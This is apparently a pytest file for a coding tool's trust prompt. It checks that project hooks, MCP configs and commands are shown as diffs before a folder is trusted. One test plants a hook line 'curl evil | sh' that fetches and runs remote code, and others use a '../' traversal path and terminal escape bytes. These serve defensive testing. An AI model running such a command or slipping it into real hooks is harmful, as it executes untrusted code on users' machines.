"""The question about trust shows what would be loaded, and of what was trusted only how it differs."""

from pathlib import Path

import pytest

from mycoder.config.trust import TrustStore
from mycoder.config.trust_difference import LINES_OF_A_FILE, Copies, content, shown


class Asked:
    """A folder, the list of trusted ones, and what a person is shown."""

    def __init__(self, place: Path) -> None:
        self.root = place / "project"
        self.root.mkdir()
        self.store, self.copies = TrustStore(place / "state/trust.json"), Copies(place / "state/trusted")

    def write(self, name: str, text: str, mode: int = 0o644) -> None:
        (self.root / name).parent.mkdir(parents=True, exist_ok=True)
        (self.root / name).write_text(text)
        (self.root / name).chmod(mode)

    def lines(self) -> list[str]:
        return list(shown(self.root, self.store.look(self.root), self.copies))

    def agree(self) -> None:
        items = self.store.look(self.root).items
        self.copies.keep(self.root, items)
        self.store.trust(self.root, items)


@pytest.fixture
def asked(tmp_path: Path) -> Asked:
    return Asked(tmp_path)


def test_of_a_new_folder_everything_is_shown(asked: Asked) -> None:
    asked.write(".mycoder/hooks/pre", "#!/bin/sh\necho hi\n", 0o755)
    asked.write("pyproject.toml", "[tool.mycoder]\nmode = 'plan'\n[project]\nname = 'x'\n")
    assert asked.lines() == [
        "+++ .mycoder/hooks/pre (hooks, executable)", "+#!/bin/sh", "+echo hi",
        "+++ pyproject.toml [tool.mycoder] (settings)", "+{", '+  "mode": "plan"', "+}",
    ]  # fmt: skip


def test_of_a_changed_one_only_the_change(asked: Asked) -> None:
    asked.write(".mycoder/hooks/pre", "one\ntwo\nthree\n")
    asked.write(".mcp.json", "{}")
    asked.agree()
    assert asked.store.look(asked.root).is_trusted
    asked.write(".mycoder/hooks/pre", "one\ncurl evil | sh\nthree\n")
    assert asked.lines() == [
        "+++ .mycoder/hooks/pre (hooks, changed)", "@@ -1,3 +1,3 @@", " one", "-two", "+curl evil | sh", " three",
    ]  # fmt: skip


def test_what_appeared_and_what_went_away(asked: Asked) -> None:
    asked.write(".mcp.json", "{}\n")
    asked.agree()
    (asked.root / ".mcp.json").unlink()
    asked.write(".mycoder/commands/x.md", "do\n")
    assert asked.lines() == [
        "+++ .mycoder/commands/x.md (slash commands)", "+do", "--- .mcp.json (was trusted, is no longer there)",
    ]  # fmt: skip


def test_a_change_of_mode_only_is_said(asked: Asked) -> None:
    asked.write(".mycoder/hooks/pre", "x\n")
    asked.agree()
    (asked.root / ".mycoder/hooks/pre").chmod(0o755)
    assert asked.lines()[1:] == ["(only its mode or where it links to)"]


def test_trust_given_before_copies_were_kept_shows_all_of_it(asked: Asked) -> None:
    asked.write(".mcp.json", "{}\n")
    asked.store.trust(asked.root, asked.store.look(asked.root).items)
    asked.write(".mcp.json", "{1}\n")
    assert asked.lines() == [
        "+++ .mcp.json (MCP servers, changed; what was trusted is not kept, so all of it)", "+{1}",
    ]  # fmt: skip


def test_nothing_is_hidden_below_the_fold_without_a_word(asked: Asked) -> None:
    asked.write(".mycoder/hooks/pre", "x\n" * 5000)
    lines = asked.lines()
    assert len(lines) == LINES_OF_A_FILE + 1
    assert "4801 more lines are not shown" in lines[-1]


def test_what_changes_while_it_is_looked_at_is_not_shown_as_something_else(asked: Asked) -> None:
    asked.write(".mcp.json", "{}")
    (item,) = asked.store.look(asked.root).items
    asked.write(".mcp.json", "{evil}")
    assert content(asked.root, item) is None


def test_copies_are_private_and_only_found_by_a_digest(asked: Asked, tmp_path: Path) -> None:
    asked.write(".mcp.json", "{}")
    asked.agree()
    for path in (tmp_path / "state").rglob("*"):
        assert not path.stat().st_mode & 0o077, path
    assert asked.copies.text("../trust.json") is None


def test_bytes_and_links_are_shown_too(asked: Asked, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (asked.root / ".mycoder").mkdir()
    (asked.root / ".mycoder/skills").symlink_to(tmp_path / "elsewhere")
    (asked.root / ".mcp.json").write_bytes(b"\xff\x1b[2J")
    lines = asked.lines()
    assert f"+link to {tmp_path / 'elsewhere'}" in lines
    assert any("\x1b[2J" in line for line in lines), "faces make it visible"
